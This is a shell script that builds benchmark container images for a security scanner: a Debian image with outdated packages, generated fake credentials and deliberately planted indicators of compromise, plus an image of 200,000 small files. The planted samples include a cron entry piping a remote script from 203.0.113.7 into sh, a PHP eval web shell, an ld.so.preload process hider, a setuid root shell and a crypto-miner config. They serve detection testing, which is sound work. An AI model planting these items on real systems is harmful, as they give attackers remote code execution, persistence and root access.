#!/bin/sh
# image-make.sh builds the two images that image.sh measures.
#
#	test/bench/image-make.sh FOLDER [big] [many]
#
# FOLDER is made where it is not there. Without a name both images are built; one
# that is there already stays as it is.
#
#	big.tar, big-oci/, big-oci.tar   a Debian server of some 320 MB in six layers,
#	                                 with old packages of every language and planted
#	                                 secrets: big.planted says what and where
#	many.tar                         200,000 small files in three layers
#
# The tar files without "oci" are docker-archives with plain layers, the others hold
# layers compressed with gzip; big-zstd/ is the same with zstd, where skopeo can.
#
# It needs root, chroot(1) and Debian's mmdebstrap, skopeo, umoci, zip, openssl, npm
# (or the mirror's npm in the image) and go, and the package registries of Debian,
# npm and Go. Nothing in it is started but the packages' own install scripts.
# Every credential is made up here, in pieces, so that no scanner takes this script
# for the leak.

set -eu
LC_ALL=C
export LC_ALL
# The layers are the same bytes as far as the tools allow it.
SOURCE_DATE_EPOCH=${SOURCE_DATE_EPOCH:-1700000000}
export SOURCE_DATE_EPOCH
suite=${SUITE:-bookworm}

note() { echo "image-make: $*" >&2; }

die() {
	note "$*"
	exit 2
}

# --- a layout that grows by one layer at a time -------------------------------------

# begin NAME starts an image without layers in the layout NAME.
begin() {
	layout=$work/$1
	umoci init --layout "$layout"
	umoci new --image "$layout:latest"
}

# whole TAR CREATED_BY adds a tar file as the next layer.
whole() {
	umoci raw add-layer --image "$layout:latest" --history.created_by "$2" "$1"
}

# open makes the image's files stand in $root.
open() {
	umoci unpack --image "$layout:latest" "$work/bundle"
	root=$work/bundle/rootfs
}

# layer CREATED_BY adds what has changed in $root since the last layer.
layer() {
	umoci repack --refresh-bundle --image "$layout:latest" --history.created_by "$1" "$work/bundle"
}

# install PACKAGE... adds Debian packages to $root.
install() {
	cp /etc/resolv.conf "$root/etc/resolv.conf"
	chroot "$root" apt-get -o Dir::Cache::pkgcache= -o Dir::Cache::srcpkgcache= update -qq >&2
	DEBIAN_FRONTEND=noninteractive chroot "$root" \
		apt-get -o Dir::Cache::pkgcache= -o Dir::Cache::srcpkgcache= \
		install -qq -y --no-install-recommends "$@" >"$work/apt.log" 2>&1 ||
		die "apt-get install $*: $(tail -n 3 "$work/apt.log")"
	rm -rf "$root"/var/lib/apt/lists/* "$root/etc/resolv.conf"
	: >"$root/etc/resolv.conf"
}

# put PATH writes standard input to a file in $root.
put() {
	mkdir -p "$(dirname "$root/$1")"
	cat >"$root/$1"
}

# planted TYPE PATH LAYER [deleted] adds a line to the list of what is where.
planted() { printf '%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "${4:-visible}" >>"$work/planted"; }

# --- the big image --------------------------------------------------------------------

debian() {
	mmdebstrap --variant=apt --aptopt='APT::Install-Recommends "false"' \
		--dpkgopt='path-exclude=/usr/share/locale/*' --dpkgopt='path-exclude=/usr/share/man/*' \
		"$suite" "$work/debian.tar" >"$work/mmdebstrap.log" 2>&1 ||
		die "mmdebstrap $suite: $(tail -n 5 "$work/mmdebstrap.log")"
	whole "$work/debian.tar" "/bin/sh -c #(nop) ADD file:debian-$suite in / "
	rm "$work/debian.tar"
}

nginx() {
	# As the official Debian image does: no service starts while it is installed.
	printf '#!/bin/sh\nexit 101\n' | put usr/sbin/policy-rc.d
	chmod 755 "$root/usr/sbin/policy-rc.d"
	install nginx-light curl openssl
	# Caches that the next layer deletes, these and apt's: bytes carried for nothing.
	head -c 6000000 /dev/zero | openssl enc -aes-128-ctr -K 00 -iv 00 2>/dev/null |
		put var/cache/nginx/warm.bin
	layer '/bin/sh -c apt-get update && apt-get install -y nginx curl # buildkit'
}

# wheel NAME VERSION unpacks as pip would have: a package and its dist-info.
wheel() {
	site=usr/local/lib/python3.11/dist-packages
	module=$(echo "$1" | tr 'A-Z-' 'a-z_')
	info=$site/$1-$2.dist-info
	printf '__version__ = "%s"\n' "$2" | put "$site/$module/__init__.py"
	printf 'Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: made by hand\nLicense: BSD\n' "$1" "$2" |
		put "$info/METADATA"
	echo pip | put "$info/INSTALLER"
	printf '%s/__init__.py,,\n%s-%s.dist-info/METADATA,,\n%s-%s.dist-info/RECORD,,\n' \
		"$module" "$1" "$2" "$1" "$2" | put "$info/RECORD"
}

python() {
	rm "$root/var/cache/nginx/warm.bin"
	# requests, urllib3 and idna of Debian: patched, and to be judged as Debian's.
	install python3 python3-requests python3-jinja2 python3-cryptography
	chroot "$root" apt-get clean
	wheel Django 3.2
	wheel requests 2.19.1
	wheel urllib3 1.24
	wheel Jinja2 2.10
	wheel Pillow 8.1.0
	wheel PyYAML 5.3
	wheel cryptography 3.2
	wheel Flask 0.12.2
	printf 'Django==3.2\nrequests==2.19.1\naiohttp==3.7.3\n' | put app/requirements.txt
	layer '/bin/sh -c pip install -r requirements.txt # buildkit'
}

node() {
	install nodejs
	chroot "$root" apt-get clean
	mkdir -p "$root/app/web"
	printf '{"name":"shop","version":"1.0.0","dependencies":{"lodash":"4.17.10","minimist":"1.2.0","express":"4.15.2","jquery":"3.3.1","handlebars":"4.0.11","axios":"0.18.0"}}\n' |
		put app/web/package.json
	(cd "$root/app/web" && npm install --silent --ignore-scripts --no-audit --no-fund >&2)
	layer '|1 NPM_TOKEN='"$npm_token"' /bin/sh -c npm ci # buildkit'
}

# program FOLDER [FLAG...] links a server against old modules. It calls x/text's
# ParseAcceptLanguage (vulnerable at this version), links x/net/html and x/crypto/ssh
# without calling what is vulnerable in most advisories, and requires more than that.
program() {
	mkdir -p "$work/go"
	cat >"$work/go/go.mod" <<-'END'
		module shop.test/server
		go 1.21
		require (
			golang.org/x/crypto v0.0.0-20200622213623-75b288015ac9
			golang.org/x/net v0.0.0-20210405180319-a5a99cb37ef4
			golang.org/x/text v0.3.5
			gopkg.in/yaml.v2 v2.2.2
		)
	END
	cat >"$work/go/main.go" <<-'END'
		package main

		import (
			"fmt"
			"net/http"
			"os"
			"strings"

			"golang.org/x/crypto/bcrypt"
			"golang.org/x/crypto/ssh"
			"golang.org/x/net/html"
			"golang.org/x/net/http2"
			"golang.org/x/text/language"
			"gopkg.in/yaml.v2"
		)

		func main() {
			tags, _, err := language.ParseAcceptLanguage(strings.Join(os.Args, ","))
			fmt.Println(tags, err)
			fmt.Println(html.EscapeString("<shop>"), bcrypt.DefaultCost, ssh.KeyAlgoED25519)
			var v any
			fmt.Println(yaml.Unmarshal([]byte("a: 1"), &v), v)
			server := &http.Server{Addr: ":8080"}
			fmt.Println(http2.ConfigureServer(server, nil))
			fmt.Println(server.ListenAndServe())
		}
	END
	to=$root/$1
	shift
	mkdir -p "$(dirname "$to")"
	# An old standard library where the module proxy has its toolchain, else this one's.
	for toolchain in go1.21.4 local; do
		(cd "$work/go" && GOTOOLCHAIN=$toolchain GOFLAGS=-mod=mod CGO_ENABLED=0 \
			go build -trimpath "$@" -o "$to" . >&2) && return
	done
	die "go build of the server for the image: see above"
}

# jar FILE GROUP ARTIFACT VERSION writes a Java archive that Maven would have made.
jar() {
	rm -rf "$work/jar"
	mkdir -p "$work/jar/META-INF/maven/$2/$3"
	printf 'version=%s\ngroupId=%s\nartifactId=%s\n' "$4" "$2" "$3" >"$work/jar/META-INF/maven/$2/$3/pom.properties"
	printf 'Manifest-Version: 1.0\nImplementation-Title: %s\nImplementation-Version: %s\n' "$3" "$4" \
		>"$work/jar/META-INF/MANIFEST.MF"
	head -c 200000 /dev/urandom >"$work/jar/Main.class"
	(cd "$work/jar" && zip -q -r -X "$1" META-INF Main.class)
}

java() {
	lib=$work/boot/BOOT-INF/lib
	mkdir -p "$lib" "$work/boot/META-INF"
	jar "$lib/log4j-core-2.14.1.jar" org.apache.logging.log4j log4j-core 2.14.1
	jar "$lib/log4j-api-2.14.1.jar" org.apache.logging.log4j log4j-api 2.14.1
	jar "$lib/jackson-databind-2.9.8.jar" com.fasterxml.jackson.core jackson-databind 2.9.8
	# A jar in a jar in a jar.
	mkdir -p "$work/inner/lib"
	jar "$work/inner/lib/commons-collections-3.2.1.jar" commons-collections commons-collections 3.2.1
	(cd "$work/inner" && zip -q -0 -r -X "$lib/shaded-1.0.jar" lib)
	printf 'Manifest-Version: 1.0\nMain-Class: org.springframework.boot.loader.JarLauncher\n' \
		>"$work/boot/META-INF/MANIFEST.MF"
	mkdir -p "$root/app"
	(cd "$work/boot" && zip -q -0 -r -X "$root/app/shop.jar" META-INF BOOT-INF)
}

# letters N SEED prints N letters and digits that look random and are always the same.
letters() {
	printf '%s' "$2" | openssl dgst -sha512 -binary | openssl base64 -A | tr -dc 'A-Za-z0-9' | cut -c "1-$1"
}

# checked P REFIX SEED prints a token of the kind whose last six characters are the
# CRC-32 of the first thirty in base 62: GitHub's and npm's.
checked() {
	body=$(letters 30 "$3")
	sum=$(printf '%s' "$body" | gzip -c | tail -c 8 | od -An -tu4 -N4 | tr -d ' ')
	printf '%s%s_%s' "$1" "$2" "$body"
	awk -v n="$sum" 'BEGIN {
		d = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
		for (i = 0; i < 6; i++) { s = substr(d, n % 62 + 1, 1) s; n = int(n / 62) }
		printf "%s", s
	}'
}

secrets() {
	printf 'AWS_ACCESS_KEY_ID=AKIA%s\nAWS_SECRET_ACCESS_KEY=%s\nDEBUG=0\n' \
		Q3EGUYTR5V7WN2XK "$(letters 40 aws)" | put app/.env
	planted aws-key app/.env 5 deleted
	openssl genrsa -traditional 2048 2>/dev/null | put root/.ssh/id_rsa
	planted private-key root/.ssh/id_rsa 5 deleted
	printf '//registry.npmjs.org/:_authToken=%s\n' "$npm_token" | put root/.npmrc
	planted npm-token root/.npmrc 5 deleted
	printf 'url: postgres://shop:%s@db.shop.test:5432/shop\n' "$(letters 16 postgres)" |
		put app/config/database.yml
	planted connection-string app/config/database.yml 5
	printf 'GITHUB_TOKEN = "%s"\n' "$(checked gh p github)" | put app/deploy.py
	planted github-token app/deploy.py 5
	printf '{"auths":{"registry.shop.test":{"auth":"%s"}}}\n' \
		"$(printf 'robot:%s' "$(letters 20 docker)" | openssl base64 -A)" | put root/.docker/config.json
	planted docker-auth root/.docker/config.json 5
	printf 'apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    token: %s.%s.%s\n' \
		"$(printf '{"alg":"RS256","kid":"1"}' | openssl base64 -A | tr -d '=')" \
		"$(printf '{"iss":"kubernetes/serviceaccount","sub":"system:serviceaccount:kube-system:admin"}' | openssl base64 -A | tr -d '=' | tr '/+' '_-')" \
		"$(letters 64 jwt)" | put root/.kube/config
	planted kube-token root/.kube/config 5
	printf 'SLACK = "xo%s"\nSECRET_KEY = "%s"\n' "xb-2314567890-2314567890123-$(letters 24 slack)" "$(letters 50 django)" |
		put app/settings.py
	planted slack-token app/settings.py 5
	planted generic-key app/settings.py 5
	printf 'stripe_key: s%s_%s\n' k_live "$(letters 24 stripe)" | put app/config/payment.yml
	planted stripe-key app/config/payment.yml 5
	printf 'const key = "AI%s";\n' "zaSy$(letters 33 google)" | put app/web/maps.js
	planted google-key app/web/maps.js 5
	printf 'token = gl%s-%s\n' pat "$(letters 20 gitlab)" | put app/.gitlab-token
	planted gitlab-token app/.gitlab-token 5
	printf '{"version":4,"resources":[{"type":"aws_db_instance","instances":[{"attributes":{"password":"%s"}}]}]}\n' \
		"$(letters 18 tf)" | put app/terraform.tfstate
	planted terraform-password app/terraform.tfstate 5
	planted env-password 'config: env DB_PASSWORD' - config
	planted npm-token 'history: ARG NPM_TOKEN' - config
}

miner() {
	printf '{"pools":[{"url":"stratum+tcp://pool.minexmr.test:4444","user":"4%s","algo":"rx/0"}],"donate-level":1}\n' \
		"$(letters 60 wallet)" | put usr/share/.cache/config.json
	planted miner-config usr/share/.cache/config.json 5
	printf '* * * * * root curl -s http://203.0.113.7/x.sh | sh\n' | put etc/cron.d/sysupdate
	planted cron-dropper etc/cron.d/sysupdate 5
	echo /usr/lib/libprocesshider.so | put etc/ld.so.preload
	planted ld-preload etc/ld.so.preload 5
	# shellcheck disable=SC2016 # it is PHP's
	printf '<?php @eval($_POST["c"]); ?>\n' | put var/www/html/u.php
	planted web-shell var/www/html/u.php 5
	cp "$root/bin/bash" "$root/usr/local/bin/rootsh"
	chmod 4755 "$root/usr/local/bin/rootsh"
	planted setuid-shell usr/local/bin/rootsh 5
	mkdir -p "$root/srv/upload"
	chmod 777 "$root/srv/upload"
	planted world-writable srv/upload 5
}

shop() {
	program app/server
	program app/server-stripped -ldflags='-s -w'
	java
	secrets
	miner
	mkdir -p "$root/app/build"
	head -c 3000000 /dev/urandom >"$root/app/build/objects.o"
	layer '/bin/sh -c #(nop) COPY dir:shop in /app '
}

# tidy deletes what it should never have copied; the layer below still has it.
tidy() {
	rm -r "$root/app/.env" "$root/root/.ssh" "$root/root/.npmrc" "$root/app/build"
	echo 'static' | put app/build/index.html
	layer '/bin/sh -c rm -rf /app/.env /root/.ssh /root/.npmrc /app/build # buildkit'
}

big() {
	npm_token=$(checked np m npm)
	begin big-oci
	debian
	open
	nginx
	python
	node
	shop
	tidy
	umoci config --image "$layout:latest" --config.env PATH=/usr/local/bin:/usr/bin:/bin \
		--config.env "DB_PASSWORD=$(letters 14 env)" --config.exposedports 22/tcp --config.exposedports 8080/tcp \
		--config.cmd /app/server --config.workingdir /app --config.label maintainer=shop@shop.test \
		--config.label org.opencontainers.image.base.name=docker.io/library/debian:"$suite"-slim
	rm -rf "$work/bundle"
	umoci gc --layout "$layout"
	for_all big "$layout"
	mv "$work/planted" "$out/big.planted"
}

# for_all NAME LAYOUT writes an image in every form that a scanner may meet.
for_all() {
	skopeo copy -q "oci:$2:latest" "docker-archive:$out/$1.tar:shop.test/$1:latest"
	skopeo copy -q "oci:$2:latest" "oci-archive:$out/$1-oci.tar:latest"
	mv "$2" "$out/$1-oci"
	skopeo copy -q --dest-compress-format zstd "oci:$out/$1-oci:latest" "oci:$out/$1-zstd:latest" ||
		note "this skopeo does not compress with zstd: no $1-zstd"
}

# --- the image of many files ------------------------------------------------------------

# crowd N SUFFIX FOLDER writes N files of one line, a thousand to a folder.
crowd() {
	done=0
	while [ "$done" -lt "$1" ]; do
		mkdir -p "$3/$done"
		seq "$done" $((done + 999)) | sed 's/.*/value & of a small file that nobody ever reads/' |
			split -l 1 -a 3 -d --additional-suffix="$2" - "$3/$done/f"
		done=$((done + 1000))
	done
}

many() {
	begin many-oci
	for part in 1.txt.67000 2.js.67000 3.py.66000; do
		n=${part%%.*} count=${part##*.}
		suffix=${part#*.} suffix=.${suffix%.*}
		mkdir -p "$work/many/srv"
		crowd "$count" "$suffix" "$work/many/srv/$n"
		tar --sort=name --owner=0 --group=0 --numeric-owner --mtime="@$SOURCE_DATE_EPOCH" \
			-C "$work/many" -cf "$work/many.tar" .
		whole "$work/many.tar" "/bin/sh -c #(nop) COPY dir:$n in /srv/$n "
		rm -rf "$work/many" "$work/many.tar"
	done
	skopeo copy -q "oci:$layout:latest" "docker-archive:$out/many.tar:shop.test/many:latest"
}

[ $# -ge 1 ] || die "usage: image-make.sh FOLDER [big] [many]"
mkdir -p "$1"
out=$(cd "$1" && pwd)
shift
[ $# -gt 0 ] || set -- big many
[ "$(id -u)" = 0 ] || die "only root may chroot, which installing the packages of an image takes"
for tool in mmdebstrap skopeo umoci zip openssl npm go; do
	command -v $tool >/dev/null || die "$tool is not installed (Debian: apt-get install $tool)"
done
# Beside the result, so that moving it there copies nothing.
work=$(mktemp -d "$out/.making.XXXXXX")
trap 'rm -rf "$work"' EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

for image; do
	case $image in
	big | many) ;;
	*) die "$image: want big or many" ;;
	esac
	[ -e "$out/$image.tar" ] || $image
done
